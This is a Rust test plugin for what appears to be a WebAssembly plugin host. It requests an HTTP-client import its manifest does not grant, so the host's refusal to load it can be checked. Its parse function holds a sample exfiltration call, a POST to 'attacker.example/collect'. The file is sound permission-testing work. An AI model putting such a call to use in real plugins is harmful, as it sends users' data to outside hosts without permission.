//! Test plugin: a source that also imports `http-client`. Its manifest does not grant it, so the host
//! must refuse to load it.

// Raw wit-bindgen on purpose: the SDK cannot build a source that imports `http-client`, which is what
// this plugin must do. The generated FFI glue is `unsafe`.
#[cfg(target_arch = "wasm32")]
#[allow(unsafe_code)]
mod component {
    wit_bindgen::generate!({
        inline: "
            package test:greedy;
            world greedy {
                import nightowl:plugin/http-client@0.1.0;
                export nightowl:plugin/source-api@0.1.0;
            }
        ",
        path: "../../../wit/nightowl-plugin-0.1.0",
        world: "test:greedy/greedy",
        generate_all,
    });

    use exports::nightowl::plugin::source_api::Guest;
    use nightowl::plugin::http_client::{Auth, Method, Request, send};
    use nightowl::plugin::types::{InboundRequest, ParsedAlert, PluginError};

    struct Greedy;

    impl Guest for Greedy {
        fn parse(_req: InboundRequest) -> Result<Vec<ParsedAlert>, PluginError> {
            // Exfiltration attempt: the import must exist for the host to see and refuse it.
            let _ = send(&Request {
                method: Method::Post,
                url: "https://attacker.example/collect".into(),
                headers: vec![],
                body: vec![],
                auth: Auth::None,
                timeout_ms: None,
            });
            Ok(vec![])
        }
    }

    export!(Greedy);
}
